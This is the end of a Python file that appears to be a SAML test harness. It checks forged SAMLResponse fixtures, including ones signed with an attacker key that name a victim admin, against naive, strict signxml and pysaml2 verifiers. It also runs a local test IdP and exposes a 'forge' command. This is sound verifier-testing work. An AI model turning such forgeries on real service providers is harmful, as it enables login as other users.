    logging.getLogger("saml2").setLevel(logging.CRITICAL)  # refusals below are expected
    tmp = tempfile.mkdtemp(prefix="saml-peer-check-")
    keydir = os.path.join(tmp, "keys")
    with open(os.devnull, "w") as null:
        old, sys.stdout = sys.stdout, null
        try:
            cmd_keys(argparse.Namespace(out=keydir))
        finally:
            sys.stdout = old
    k = lambda n: os.path.join(keydir, n)  # noqa: E731
    base = {
        "idp_entity_id": "http://127.0.0.1:9998/idp",
        "sp_entity_id": "http://127.0.0.1:9999/sso/saml/test/metadata",
        "acs_url": "http://127.0.0.1:9999/sso/saml/test/acs",
        "in_response_to": "_req" + secrets.token_hex(8),
        "name_id": "alice@acme.example",
        "victim_name_id": "admin@acme.example",
        "attributes": {"email": "alice@acme.example", "name": "Alice", "groups": ["users", "devs"]},
        "idp_key": k("idp.key"), "idp_cert": k("idp.crt"),
        "attacker_key": k("attacker.key"), "attacker_cert": k("attacker.crt"),
        "idp_ec_key": k("idp-ec.key"), "idp_ec_cert": k("idp-ec.crt"),
        "sp_enc_cert": k("sp.crt"),
    }
    idp_cert = load_cert(k("idp.crt"))
    idp_pem = idp_cert.public_bytes(serialization.Encoding.PEM).decode()
    failures = 0
    for name, c in CASES.items():
        p = Params(dict(base))
        xml = c["fn"](p)
        b64 = base64.b64encode(xml).decode()
        lines = ["%s [%s] %d bytes" % (name, c["expect"], len(xml))]
        cert = idp_cert
        if name == "ec_valid":
            cert = load_cert(k("idp-ec.crt"))
        check_xml = xml
        if name == "encrypted_valid":
            check_xml = xmlsec_decrypt(xml, k("sp.key"))
            lines.append("  xmlsec1 --decrypt: OK")
        try:
            root, sigs = naive_verify(check_xml, cert)
            for path, ok, signed in sigs:
                lines.append("  naive: sig %s valid=%s covers=%s" % (path, ok, signed))
            lines.append("  naive reads: %s" % sloppy_reads(root))
        except etree.XMLSyntaxError as e:
            lines.append("  naive: parser refused: %s" % str(e)[:90])
        try:
            pem = cert.public_bytes(serialization.Encoding.PEM).decode()
            lines.append("  signxml strict: OK %s" % strict_signxml(check_xml, pem, allow_sha1=(name == "sha1")))
        except Exception as e:
            lines.append("  signxml strict: REFUSED %s: %s" % (type(e).__name__, str(e).splitlines()[0][:90]))
        if name not in ("ec_valid",):  # pysaml2's SP config here trusts the RSA idp cert only
            lines.append("  pysaml2 SP: %s" % pysaml2_sp(tmp, keydir, p, b64,
                                                        outstanding=(name != "wrong_in_response_to")))
        # sanity assertions on the fixtures themselves
        text = "\n".join(lines)
        if c["expect"] in ("accept", "accept_once") and "signxml strict: OK" not in text:
            failures += 1
            text += "\n  !! expected the strict verifier to accept"
        print(text, flush=True)
    if args.idp:
        failures += idp_end_to_end(tmp, keydir)
    shutil.rmtree(tmp, ignore_errors=True)
    print("selfcheck: %d problem(s)" % failures)
    sys.exit(1 if failures else 0)


def idp_end_to_end(tmp, keydir):
    """Starts `idp` as a subprocess and runs AuthnRequest -> login -> auto-post, then validates
    the Response with pysaml2's SP. Returns the number of problems."""
    from saml2 import BINDING_HTTP_POST, BINDING_HTTP_REDIRECT
    from saml2.client import Saml2Client
    from saml2.config import SPConfig

    problems = 0
    k = lambda n: os.path.join(keydir, n)  # noqa: E731
    sp_entity = "http://127.0.0.1:9999/sso/saml/test/metadata"
    acs = "http://127.0.0.1:9999/sso/saml/test/acs"
    sp_md = os.path.join(tmp, "sp-md.xml")
    with open(sp_md, "w") as f:
        f.write(sp_metadata_xml(sp_entity, acs, load_cert(k("sp.crt"))))
    users = os.path.join(tmp, "users.json")
    with open(users, "w") as f:
        json.dump([
            {"id": "alice", "email": "alice@acme.example", "name": "Alice", "groups": ["admins", "devs"],
             "authn_context": AC_PASSWORD_PROTECTED},
            {"id": "bob", "email": "bob@acme.example", "name": "Bob", "groups": [],
             "authn_context": "urn:oasis:names:tc:SAML:2.0:ac:classes:TimeSyncToken"},
        ], f)
    for variant in (["--sign", "assertion"], ["--sign", "both", "--digest", "sha1"], ["--sign", "response"],
                    ["--sign", "assertion", "--encrypt"]):
        proc = subprocess.Popen(
            [sys.executable, os.path.abspath(__file__), "idp", "--port", "0", "--entity-id",
             "http://127.0.0.1/idp-e2e", "--key", k("idp.key"), "--cert", k("idp.crt"),
             "--sp-metadata", sp_md, "--users", users] + variant,
            stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
        try:
            line = proc.stdout.readline().strip()
            assert line.startswith("ready "), line
            base = line.split(" ", 1)[1]
            idp_md = os.path.join(tmp, "idp-e2e-md.xml")
            with urllib.request.urlopen(base + "/metadata") as r:
                with open(idp_md, "wb") as f:
                    f.write(r.read())
            cfg = SPConfig()
            cfg.load({
                "entityid": sp_entity,
                "xmlsec_binary": shutil.which("xmlsec1"),
                "metadata": {"local": [idp_md]},
                "key_file": k("sp.key"), "cert_file": k("sp.crt"),
                "encryption_keypairs": [{"key_file": k("sp.key"), "cert_file": k("sp.crt")}],
                "allow_unknown_attributes": True,
                "service": {"sp": {
                    "endpoints": {"assertion_consumer_service": [(acs, BINDING_HTTP_POST)]},
                    "want_assertions_signed": "assertion" in variant,
                    "want_response_signed": "response" in variant,
                    "authn_requests_signed": False,
                }},
            })
            client = Saml2Client(config=cfg)
            req_id, info = client.prepare_for_authenticate(relay_state="rs-123", binding=BINDING_HTTP_REDIRECT)
            location = dict(info["headers"])["Location"]
            with urllib.request.urlopen(location) as r:
                page = r.read().decode()
                key = r.headers["X-Saml-Peer-Key"]
            assert 'name="key" value="%s"' % key in page
            body = urllib.parse.urlencode({"key": key, "user": "alice"}).encode()
            with urllib.request.urlopen(urllib.request.Request(base + "/login", data=body)) as r:
                form = r.read().decode()
            action = re.search(r'<form method="post" action="([^"]+)"', form).group(1)
            saml_resp = html.unescape(re.search(r'name="SAMLResponse" value="([^"]+)"', form).group(1))
            relay = html.unescape(re.search(r'name="RelayState" value="([^"]*)"', form).group(1))
            resp = client.parse_authn_request_response(saml_resp, BINDING_HTTP_POST, outstanding={req_id: "/"})
            ava = resp.get_identity()
            xml = base64.b64decode(saml_resp).decode()
            print("idp e2e %s: action=%s relay=%s NameID=%s ava=%s authn=%s encrypted=%s" % (
                " ".join(variant), action, relay, resp.name_id.text, ava,
                resp.authn_info()[0][0], "EncryptedAssertion" in xml))
            assert action == acs and relay == "rs-123" and resp.name_id.text == "alice@acme.example"
            assert ava["groups"] == ["admins", "devs"], ava
            # unsolicited endpoint
            body = urllib.parse.urlencode({"user": "bob", "acs": acs}).encode()
            req = urllib.request.Request(base + "/_test/idp-initiated", data=body,
                                         headers={"Accept": "application/json"})
            with urllib.request.urlopen(req) as r:
                j = json.load(r)
            unsolicited = base64.b64decode(j["SAMLResponse"]).decode()
            assert "InResponseTo" not in unsolicited, "unsolicited response has InResponseTo"
            print("idp e2e %s: idp-initiated OK (no InResponseTo), action=%s" % (" ".join(variant), j["action"]))
        except Exception as e:
            problems += 1
            print("idp e2e %s: FAILED %s: %s" % (" ".join(variant), type(e).__name__, e))
        finally:
            proc.stdin.close()
            proc.wait(timeout=10)
    return problems


# --------------------------------------------------------------------------------------------


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    sp = ap.add_subparsers(dest="cmd", required=True)

    k = sp.add_parser("keys", help="write test keys and certificates")
    k.add_argument("--out", required=True)

    i = sp.add_parser("idp", help="run a pysaml2 IdP on 127.0.0.1")
    i.add_argument("--port", type=int, required=True, help="0 = any free port (see the ready line)")
    i.add_argument("--entity-id", required=True)
    i.add_argument("--key", required=True)
    i.add_argument("--cert", required=True)
    i.add_argument("--sp-metadata", required=True, help="file (may appear later) or http URL; re-read on change")
    i.add_argument("--users", required=True)
    i.add_argument("--sign", choices=["response", "assertion", "both"], default="assertion")
    i.add_argument("--digest", choices=["sha256", "sha1"], default="sha256")
    i.add_argument("--encrypt", action="store_true", help="encrypt the assertion to the SP's encryption cert")
    i.add_argument("--enc-alg", choices=sorted(ENC_ALGS), default="aes256-gcm")

    f = sp.add_parser("forge", help="print one forged base64 SAMLResponse")
    f.add_argument("--case")
    f.add_argument("--params", help="params JSON file, or inline JSON text starting with '{'")
    f.add_argument("--list", action="store_true")
    f.add_argument("--json", action="store_true", help="with --list: machine-readable")
    f.add_argument("--xml", action="store_true", help="print the XML instead of base64")
    f.add_argument("--all", action="store_true", help="forge every case into --out DIR (+ manifest.json)")
    f.add_argument("--out", help="with --all: output directory")

    s = sp.add_parser("selfcheck", help="check every fixture (and with --idp the IdP flow)")
    s.add_argument("--idp", action="store_true")

    args = ap.parse_args()
    {"keys": cmd_keys, "idp": cmd_idp, "forge": cmd_forge, "selfcheck": cmd_selfcheck}[args.cmd](args)


if __name__ == "__main__":
    main()
